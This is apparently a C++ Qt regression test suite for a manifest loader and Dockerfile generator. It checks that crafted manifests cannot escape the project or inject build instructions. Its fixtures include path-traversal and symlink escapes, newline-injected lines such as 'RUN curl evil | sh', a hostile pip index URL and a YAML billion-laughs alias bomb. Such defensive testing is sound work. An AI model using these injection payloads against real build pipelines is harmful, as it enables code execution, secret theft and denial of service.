// Manifests crafted to escape the project or the Dockerfile (issue 8): each is refused with an issue
// that names the file, the line and the field, or, where the text is harmless data (a description
// with newlines and Dockerfile syntax), it reaches the Dockerfile only as a quoted LABEL value. No
// file outside the project reaches the generated file list or the build context.
//
// Also the regressions the fuzz targets found in the loader and the generator.

#include "dockerfile/dockerfilegenerator.h"
#include "dockerfile/labels.h"
#include "imagebuild/buildcontextwriter.h"
#include "manifest/manifestloader.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace mcpdock;

namespace {

const QByteArray OutsideMarker = "OUTSIDE-THE-PROJECT-7f3a";

bool writeFile(const QString& path, const QByteArray& bytes)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly | QIODevice::Truncate))
        return false;
    return f.write(bytes) == bytes.size();
}

// The instructions the generator writes; anything else at the start of a line was injected.
const QStringList Instructions = {QStringLiteral("FROM"),        QStringLiteral("WORKDIR"),
                                  QStringLiteral("COPY"),        QStringLiteral("RUN"),
                                  QStringLiteral("ENV"),         QStringLiteral("USER"),
                                  QStringLiteral("EXPOSE"),      QStringLiteral("LABEL"),
                                  QStringLiteral("HEALTHCHECK"), QStringLiteral("ENTRYPOINT")};

// The unescaped value of key="..." in a LABEL instruction (all pairs of the one LABEL, continuation
// lines joined), or a null string when the instruction is not a LABEL or lacks that key.
QString labelValueOf(const QString& instruction, const QString& key)
{
    if (!instruction.startsWith(QLatin1String("LABEL ")))
        return QString();
    qsizetype i = 6;
    const qsizetype n = instruction.size();
    while (i < n) {
        while (i < n && instruction[i].isSpace())
            ++i;
        if (i == n)
            break;
        const qsizetype eq = instruction.indexOf(QLatin1Char('='), i);
        if (eq < 0 || eq + 1 >= n || instruction[eq + 1] != QLatin1Char('"'))
            return QStringLiteral("<not key=\"value\">");
        const QString k = instruction.mid(i, eq - i);
        QString value;
        bool closed = false;
        for (i = eq + 2; i < n; ++i) {
            if (instruction[i] == QLatin1Char('\\') && i + 1 < n) {
                value += instruction[++i];
            } else if (instruction[i] == QLatin1Char('"')) {
                closed = true;
                ++i;
                break;
            } else {
                value += instruction[i];
            }
        }
        if (!closed)
            return QStringLiteral("<unterminated>");
        if (i < n && !instruction[i].isSpace())
            return QStringLiteral("<text after the closing quote>");
        if (k == key)
            return value;
    }
    return QString();
}

} // namespace

class TestRegressionManifestEscape : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_outside;
    QString m_project;
    std::unique_ptr<QTemporaryDir> m_dir;

    // A fresh project holding real tool files, a config and links leading out of it.
    void makeProject()
    {
        m_dir = std::make_unique<QTemporaryDir>();
        QVERIFY(m_dir->isValid());
        m_project = m_dir->path();
        QVERIFY(writeFile(m_project + QStringLiteral("/tools/forecast.js"), "module.exports = {};\n"));
        QVERIFY(writeFile(m_project + QStringLiteral("/tools/lookup.py"), "def run():\n    pass\n"));
        QVERIFY(QFile::link(m_outside.path() + QStringLiteral("/secret.js"),
                            m_project + QStringLiteral("/tools/escape.js")));
        QVERIFY(QFile::link(m_outside.path(), m_project + QStringLiteral("/linkdir")));
        QVERIFY(QFile::link(m_outside.path() + QStringLiteral("/config.yaml"),
                            m_project + QStringLiteral("/linked-config.yaml")));
    }

    static QString issuesText(const QList<project::ProjectIssue>& issues)
    {
        QStringList out;
        for (const auto& i : issues)
            out.append(i.toString());
        return out.join(QLatin1Char('\n'));
    }

private slots:
    void initTestCase()
    {
        QVERIFY(m_outside.isValid());
        QVERIFY(writeFile(m_outside.path() + QStringLiteral("/secret.js"), "// " + OutsideMarker + "\n"));
        QVERIFY(
            writeFile(m_outside.path() + QStringLiteral("/config.yaml"), "secret: " + OutsideMarker + "\n"));
    }

    void refused_data()
    {
        QTest::addColumn<QByteArray>("yaml");
        QTest::addColumn<int>("line");        // 0: any line
        QTest::addColumn<QString>("field");   // the field the issue must name
        QTest::addColumn<QString>("message"); // a word the message must hold

        const QByteArray head = "name: escape\nversion: 1.0.0\n";
        QTest::newRow("dotdot") << head + "tools:\n  - name: t\n    file: ../outside/secret.js\n"
                                << 5 << QStringLiteral("tools[0].file") << QStringLiteral("..");
        QTest::newRow("dotdot-inner") << head + "tools:\n  - name: t\n    file: tools/../../x.js\n"
                                      << 5 << QStringLiteral("tools[0].file") << QStringLiteral("..");
        QTest::newRow("absolute") << head + "tools:\n  - name: t\n    file: /etc/passwd\n"
                                  << 5 << QStringLiteral("tools[0].file") << QStringLiteral("absolute");
        QTest::newRow("home") << head + "tools:\n  - name: t\n    file: ~/x.js\n"
                              << 5 << QStringLiteral("tools[0].file") << QStringLiteral("absolute");
        QTest::newRow("symlink-file") << head + "tools:\n  - name: t\n    file: tools/escape.js\n"
                                      << 5 << QStringLiteral("tools[0].file") << QStringLiteral("outside");
        QTest::newRow("symlink-dir") << head + "tools:\n  - name: t\n    file: linkdir/secret.js\n"
                                     << 5 << QStringLiteral("tools[0].file") << QStringLiteral("outside");
        QTest::newRow("symlink-config")
            << head + "tools:\n  - name: t\n    file: tools/forecast.js\nconfig: linked-config.yaml\n"
            << 6 << QStringLiteral("config") << QStringLiteral("outside");
        QTest::newRow("connector-dotdot")
            << head + "tools:\n  - name: t\n    file: tools/forecast.js\nconnectors:\n  - name: c\n    file: "
                      "../c.py\n"
            << 8 << QStringLiteral("connectors[0].file") << QStringLiteral("..");
        QTest::newRow("name-newline")
            << QByteArray("name: \"x\\nRUN curl evil | sh\"\nversion: 1.0.0\ntools:\n"
                          "  - name: t\n    file: tools/forecast.js\n")
            << 1 << QStringLiteral("name") << QString();
        QTest::newRow("name-dockerfile") << QByteArray("name: 'x\" && echo $HOME'\nversion: 1.0.0\ntools:\n"
                                                       "  - name: t\n    file: tools/forecast.js\n")
                                         << 1 << QStringLiteral("name") << QString();
        QTest::newRow("version-newline") << QByteArray("name: x\nversion: \"1.0\\nFROM scratch\"\ntools:\n"
                                                       "  - name: t\n    file: tools/forecast.js\n")
                                         << 2 << QStringLiteral("version") << QString();
        QTest::newRow("tool-name-syntax")
            << head + "tools:\n  - name: \"t\\nRUN evil\"\n    file: tools/forecast.js\n"
            << 4 << QStringLiteral("tools[0].name") << QString();
        QTest::newRow("file-newline")
            << head + "tools:\n  - name: t\n    file: \"tools/forecast.js\\nRUN evil\"\n"
            << 5 << QStringLiteral("tools[0].file") << QString();
        QTest::newRow("file-quote") << head + "tools:\n  - name: t\n    file: 'tools/a\", \"/etc/passwd'\n"
                                    << 5 << QStringLiteral("tools[0].file") << QString();
        QTest::newRow("description-control")
            << head + "description: \"bell \\a here\"\ntools:\n  - name: t\n"
                      "    file: tools/forecast.js\n"
            << 3 << QStringLiteral("description") << QStringLiteral("control");
        QTest::newRow("node-version-syntax")
            << head + "tools:\n  - name: t\n    file: tools/forecast.js\nruntime:\n  node: \"20-alpine AS "
                      "x\\nRUN evil\"\n"
            << 7 << QStringLiteral("runtime.node") << QString();
        QTest::newRow("python-requirement-newline")
            << head + "tools:\n  - name: t\n    file: tools/lookup.py\ndependencies:\n  python:\n"
                      "    - \"requests\\n--index-url http://evil.example/simple\"\n"
            << 8 << QStringLiteral("dependencies.python[0]") << QString();
        QTest::newRow("npm-dependency-syntax")
            << head + "tools:\n  - name: t\n    file: tools/forecast.js\ndependencies:\n  npm:\n    "
                      "\"zod\\\"\\n\": \"^3\"\n"
            << 8 << QStringLiteral("dependencies.npm") << QString();

        QByteArray deep = head + "tools:\n  - name: t\n    file: tools/forecast.js\nruntime:\n  transport: ";
        deep += QByteArray(200, '[') + QByteArray(200, ']') + "\n";
        QTest::newRow("deep-nesting") << deep << 0 << QString() << QStringLiteral("deeper");
        QByteArray deepMap = head + "tools:\n";
        for (int i = 0; i < 60; ++i)
            deepMap += QByteArray(2 + 2 * i, ' ') + "k" + QByteArray::number(i) + ":\n";
        QTest::newRow("deep-block-nesting") << deepMap << 0 << QString() << QStringLiteral("deeper");

        // The classic billion laughs: nine levels of nine aliases.
        QByteArray bomb = "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n";
        for (char c = 'b'; c <= 'i'; ++c) {
            const char p = static_cast<char>(c - 1);
            bomb += QByteArray(1, c) + ": &" + c + " [";
            for (int i = 0; i < 9; ++i)
                bomb += QByteArray(i ? "," : "") + "*" + p;
            bomb += "]\n";
        }
        QTest::newRow("alias-bomb") << head + "tools:\n  - name: t\n    file: tools/forecast.js\n" + bomb << 0
                                    << QString() << QStringLiteral("alias");
        QTest::newRow("alias-into-name") << QByteArray("x: &n weather\nname: *n\nversion: 1.0.0\ntools:\n"
                                                       "  - name: t\n    file: tools/forecast.js\n")
                                         << 0 << QString() << QString();
        QTest::newRow("two-documents")
            << head + "tools:\n  - name: t\n    file: tools/forecast.js\n---\nname: other\n"
            << 0 << QString() << QStringLiteral("documents");
        // Found by fuzz_manifest: yaml-cpp 0.7 hands out empty documents forever for a top-level
        // ','; the loader looped without end (manifestloader.cpp scanYaml).
        QTest::newRow("fuzz-stray-comma") << QByteArray(",") << 0 << QString() << QString();
        QTest::newRow("fuzz-stray-comma-comment")
            << QByteArray("# a manifest\n ,\n") << 0 << QString() << QString();
        QTest::newRow("fuzz-stray-comma-nul") << QByteArray(",\0a", 3) << 0 << QString() << QString();
    }

    void refused()
    {
        QFETCH(QByteArray, yaml);
        QFETCH(int, line);
        QFETCH(QString, field);
        QFETCH(QString, message);
        makeProject();
        const QString manifestPath = m_project + QStringLiteral("/mcp.yaml");
        QVERIFY(writeFile(manifestPath, yaml));

        QElapsedTimer timer;
        timer.start();
        const auto loaded = manifest::loadManifest(m_project);
        // A guard against blow-up (anchors and aliases are refused before expansion): minutes, not
        // milliseconds, is what a regression would cost, so the bound leaves room for a loaded machine.
        QVERIFY2(timer.elapsed() < 60000, "loading a small hostile manifest took more than a minute");
        QVERIFY2(!loaded.ok(), "the manifest was accepted");
        const QList<project::ProjectIssue>& issues = loaded.error();
        QVERIFY(!issues.isEmpty());
        bool found = false;
        for (const auto& issue : issues) {
            QVERIFY2(!issue.message.isEmpty(), qPrintable(issue.toString()));
            QVERIFY2(QFileInfo(issue.file).fileName() == QLatin1String("mcp.yaml"),
                     qPrintable(issue.toString()));
            if ((field.isEmpty() || issue.field.startsWith(field)) && (line == 0 || issue.line == line) &&
                (message.isEmpty() || issue.message.contains(message, Qt::CaseInsensitive))) {
                found = true;
                QVERIFY2(issue.toString().contains(QStringLiteral("mcp.yaml")), qPrintable(issue.toString()));
                if (line > 0)
                    QVERIFY2(issue.toString().contains(QStringLiteral(":%1:").arg(line)),
                             qPrintable(issue.toString()));
                if (!field.isEmpty())
                    QVERIFY2(issue.toString().contains(field), qPrintable(issue.toString()));
            }
        }
        QVERIFY2(found, qPrintable(QStringLiteral("no issue names line %1, field %2 with \"%3\":\n%4")
                                       .arg(line)
                                       .arg(field, message, issuesText(issues))));
        // Nothing outside the project was read into a message.
        QVERIFY(!issuesText(issues).contains(QString::fromLatin1(OutsideMarker)));
    }

    void hugeManifest()
    {
        makeProject();
        QByteArray yaml = "name: huge\nversion: 1.0.0\ntools:\n  - name: t\n    file: tools/forecast.js\n";
        yaml += "description: \"" + QByteArray(manifest::MaxManifestBytes + 10, 'x') + "\"\n";
        QVERIFY(writeFile(m_project + QStringLiteral("/mcp.yaml"), yaml));
        const auto loaded = manifest::loadManifest(m_project);
        QVERIFY(!loaded.ok());
        QCOMPARE(QFileInfo(loaded.error().first().file).fileName(), QStringLiteral("mcp.yaml"));
        QVERIFY2(loaded.error().first().message.contains(QStringLiteral("KiB")),
                 qPrintable(loaded.error().first().toString()));
    }

    void hugeConfig()
    {
        makeProject();
        QVERIFY(writeFile(m_project + QStringLiteral("/config.yaml"),
                          "k: \"" + QByteArray(manifest::MaxManifestBytes + 10, 'x') + "\"\n"));
        QVERIFY(writeFile(m_project + QStringLiteral("/mcp.yaml"),
                          "name: huge\nversion: 1.0.0\ntools:\n  - name: t\n    file: tools/forecast.js\n"));
        const auto loaded = manifest::loadManifest(m_project);
        QVERIFY2(!loaded.ok(), "a config.yaml over the size limit was accepted");
        QCOMPARE(QFileInfo(loaded.error().first().file).fileName(), QStringLiteral("config.yaml"));
    }

    void hugeJsonNesting()
    {
        makeProject();
        QByteArray json =
            R"({"name": "deep", "version": "1.0.0", "tools": [{"name": "t", "file": "tools/forecast.js"}], "x": )";
        json += QByteArray(5000, '[') + QByteArray(5000, ']') + "}";
        QVERIFY(writeFile(m_project + QStringLiteral("/manifest.json"), json));
        const auto loaded = manifest::loadManifest(m_project + QStringLiteral("/manifest.json"));
        QVERIFY(!loaded.ok());
        QCOMPARE(QFileInfo(loaded.error().first().file).fileName(), QStringLiteral("manifest.json"));
    }

    // Harmless text with Dockerfile syntax and newlines is data: it appears only inside LABEL values.
    void descriptionStaysALabel()
    {
        makeProject();
        QVERIFY(writeFile(
            m_project + QStringLiteral("/mcp.yaml"),
            "name: quoted\nversion: 1.0.0\n"
            "description: \"line one\\nRUN curl http://evil | sh\\n\\\\\\nLABEL x=\\\"$HOME\\\" \\\\\"\n"
            "tools:\n  - name: t\n    description: \"USER root\\nENTRYPOINT [\\\"sh\\\"]\"\n"
            "    file: tools/forecast.js\n"));
        const auto loaded = manifest::loadManifest(m_project);
        QVERIFY2(loaded.ok(), loaded.ok() ? "" : qPrintable(issuesText(loaded.error())));
        QVERIFY(loaded->description.contains(QLatin1Char('\n')));
        dockerfile::GeneratorOptions options;
        options.bases.node = QStringLiteral("mcpdock-test/node:20");
        const auto generated = dockerfile::generateDockerfile(loaded.value(), options);
        QVERIFY2(generated.ok(), generated.ok() ? "" : qPrintable(generated.error().join(QLatin1Char('\n'))));
        const QStringList lines = generated->text.split(QLatin1Char('\n'));
        QString description;
        QString instruction; // continuation lines joined
        int labels = 0;
        for (const QString& l : lines) {
            const QString line = l.trimmed();
            if (line.isEmpty() || line.startsWith(QLatin1Char('#')))
                continue;
            if (instruction.isEmpty()) {
                QVERIFY2(Instructions.contains(line.section(QLatin1Char(' '), 0, 0)), qPrintable(line));
                QVERIFY2(!line.startsWith(QLatin1String("RUN curl")), qPrintable(line));
                QVERIFY2(!line.startsWith(QLatin1String("USER root")), qPrintable(line));
            }
            if (line.endsWith(QLatin1Char('\\'))) {
                // Only the one LABEL instruction continues, and only after a closed "value".
                QVERIFY2(line.endsWith(QLatin1String("\" \\")), qPrintable(line));
                instruction += line.chopped(1);
                QVERIFY2(instruction.startsWith(QLatin1String("LABEL ")), qPrintable(instruction));
                continue;
            }
            instruction += line;
            if (instruction.startsWith(QLatin1String("LABEL ")))
                ++labels;
            const QString v = labelValueOf(instruction, QLatin1String(dockerfile::labels::OciDescription));
            if (!v.isNull())
                description = v;
            instruction.clear();
        }
        QVERIFY(instruction.isEmpty());
        QCOMPARE(labels, 1);
        QString folded = loaded->description;
        folded.replace(QLatin1Char('\n'), QLatin1Char(' '));
        QCOMPARE(description, folded);
    }

    // A project folder that holds a link leading out: the manifest names only real files, so it
    // loads, but neither the generated file list nor the build context carries the outside file.
    void linkOutNeverReachesTheContext()
    {
        makeProject();
        QVERIFY(writeFile(m_project + QStringLiteral("/mcp.yaml"),
                          "name: ctx\nversion: 1.0.0\ntools:\n  - name: t\n    file: tools/forecast.js\n"
                          "  - name: p\n    file: tools/lookup.py\n"));
        const auto loaded = manifest::loadManifest(m_project);
        QVERIFY2(loaded.ok(), loaded.ok() ? "" : qPrintable(issuesText(loaded.error())));
        dockerfile::GeneratorOptions options;
        options.bases.nodeDebian = QStringLiteral("mcpdock-test/node:20");
        options.bases.python = QStringLiteral("mcpdock-test/python:3.11");
        const auto generated = dockerfile::generateDockerfile(loaded.value(), options);
        QVERIFY2(generated.ok(), generated.ok() ? "" : qPrintable(generated.error().join(QLatin1Char('\n'))));
        QVERIFY2(!generated->projectFiles.contains(QStringLiteral("tools/escape.js")),
                 qPrintable(generated->projectFiles.join(QLatin1Char(' '))));

        imagebuild::BuildContextWriter writer(loaded->projectDir);
        for (const QString& f : generated->projectFiles) {
            const auto added = writer.addProjectPath(f);
            QVERIFY2(added.ok(),
                     qPrintable(f + QStringLiteral(": ") + (added.ok() ? QString() : added.error().message)));
        }
        // Asked directly, the writer refuses the link and the linked folder.
        for (const QString& bad :
             {QStringLiteral("tools/escape.js"), QStringLiteral("linkdir"),
              QStringLiteral("linkdir/secret.js"), QStringLiteral("../x"), QStringLiteral("/etc/passwd")}) {
            const auto added = writer.addProjectPath(bad);
            QVERIFY2(!added.ok(), qPrintable(bad + QStringLiteral(" was added to the context")));
            QVERIFY2(added.error().kind == imagebuild::ContextError::Kind::OutsideProject ||
                         added.error().kind == imagebuild::ContextError::Kind::InvalidPath,
                     qPrintable(bad + QStringLiteral(": ") + added.error().message));
            QVERIFY(!added.error().message.isEmpty());
        }
        // The whole tools folder (as a hand-written Dockerfile's COPY tools would take it) either is
        // refused or leaves the link out; never carries the outside bytes.
        imagebuild::BuildContextWriter folderWriter(loaded->projectDir);
        const auto folder = folderWriter.addProjectPath(QStringLiteral("tools"));
        QByteArray tar;
        const auto sink = [&tar](const char* data, qint64 size) {
            tar.append(data, size);
            return true;
        };
        if (folder.ok()) {
            QVERIFY(!folderWriter.files().contains(QStringLiteral("tools/escape.js")));
            QVERIFY(folderWriter.write(sink).ok());
            QVERIFY(!tar.contains(OutsideMarker));
        } else {
            QCOMPARE(folder.error().kind, imagebuild::ContextError::Kind::OutsideProject);
        }
        tar.clear();
        QVERIFY(writer.addMemoryFile(QStringLiteral("Dockerfile"), generated->text.toUtf8()).ok());
        const auto written = writer.write(sink);
        QVERIFY(written.ok());
        QVERIFY(!tar.contains(OutsideMarker));
        QVERIFY(!written->entries.contains(QStringLiteral("tools/escape.js")));
    }

    // Found by fuzz_dockerfile: a base image override with a trailing newline ("node:20\n") passed
    // the reference check ('$' matches before a final newline) and split "FROM ... AS stage" in two.
    void baseImageOverrideWithNewline_data()
    {
        QTest::addColumn<QString>("node");
        QTest::newRow("trailing-newline") << QStringLiteral("mcpdock-test/node:20\n");
        QTest::newRow("trailing-crlf") << QStringLiteral("mcpdock-test/node:20\r\n");
        QTest::newRow("inner-newline") << QStringLiteral("mcpdock-test/node:20\nRUN evil");
        QTest::newRow("space-as") << QStringLiteral("node:20 AS x");
        QTest::newRow("variable") << QStringLiteral("node:${EVIL}");
    }

    void baseImageOverrideWithNewline()
    {
        QFETCH(QString, node);
        project::Project m;
        m.projectDir = QDir::tempPath();
        m.name = QStringLiteral("x");
        m.version = QStringLiteral("1.0.0");
        project::ToolEntry t;
        t.name = QStringLiteral("t");
        t.file = QStringLiteral("report.ts");
        t.language = project::ToolEntry::Language::TypeScript;
        m.tools.append(t);
        dockerfile::GeneratorOptions options;
        options.bases.node = node;
        const auto generated = dockerfile::generateDockerfile(m, options);
        QVERIFY2(!generated.ok(), generated.ok() ? qPrintable(generated->text) : "");
        QVERIFY(generated.error().join(QLatin1Char(' ')).contains(QStringLiteral("image reference")));
    }
};

QTEST_GUILESS_MAIN(TestRegressionManifestEscape)
#include "tst_regression_manifest_escape.moc"
